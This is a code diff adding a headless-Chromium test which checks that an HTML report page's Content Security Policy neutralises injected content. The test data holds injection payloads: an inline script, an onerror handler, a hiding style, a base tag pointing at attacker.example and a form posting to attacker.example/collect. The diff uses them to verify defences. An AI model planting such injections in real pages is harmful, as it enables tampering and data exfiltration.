@@ -5,7 +5,7 @@
  * its filters still work (CSS alone). Without the browser the tests are pending, saying
  * how to install it; never passed silently.
  */
-import { existsSync, readFileSync } from "node:fs";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { pathToFileURL } from "node:url";
 import { expect } from "chai";
@@ -88,6 +88,38 @@ describe(`reports: the HTML page in headless Chromium (needs ${BROWSER}: ${INSTA
       .to.include("content-type: text/html")
       .and.include("<html><body>hello</body></html>");
     expect(errors).to.deep.equal([]);
+    expect(requests.filter((u) => !u.startsWith("file:"))).to.deep.equal([]);
+    await context.close();
+  });
+
+  it("a script, a handler, a style and a base slipped into a copy of the page: none takes effect; its own script runs", async () => {
+    const copy = join(tempDir(), "tampered.html");
+    const slipped = [
+      "<script>window.slipped = 'script'</script>",
+      `<img src="x" onerror="window.slipped = 'handler'">`,
+      "<style>#verdict { display: none }</style>",
+      `<base href="https://attacker.example/">`,
+      `<form id="out" action="https://attacker.example/collect"><input name="q" value="1"></form>`,
+    ].join("\n");
+    writeFileSync(copy, readFileSync(page, "utf8").replace("<h1>", `${slipped}\n<h1>`));
+    const context = await browser.newContext();
+    const tab = await context.newPage();
+    const refused: string[] = [];
+    const requests: string[] = [];
+    tab.on("console", (m) => (/Content Security Policy/.test(m.text()) ? refused.push(m.text()) : undefined));
+    tab.on("request", (r) => requests.push(r.url()));
+    await tab.goto(pathToFileURL(copy).href);
+    expect(await tab.evaluate(() => (window as { slipped?: string }).slipped)).to.equal(undefined);
+    expect(await tab.locator("#verdict").isVisible(), "the slipped style applied").to.equal(true);
+    expect(await tab.evaluate(() => document.baseURI)).to.equal(pathToFileURL(copy).href);
+    await tab.evaluate(() => (document.getElementById("out") as HTMLFormElement).submit());
+    // The page's own script, named by its hash, still runs: printing opens every check.
+    const opened = await tab.evaluate(() => {
+      dispatchEvent(new Event("beforeprint"));
+      return [...document.querySelectorAll("details")].every((d) => d.open);
+    });
+    expect(opened, "the page's own script ran").to.equal(true);
+    expect(refused.length, "refusals the browser logged").to.be.greaterThan(0);
     expect(requests.filter((u) => !u.startsWith("file:"))).to.deep.equal([]);
     await context.close();
   });
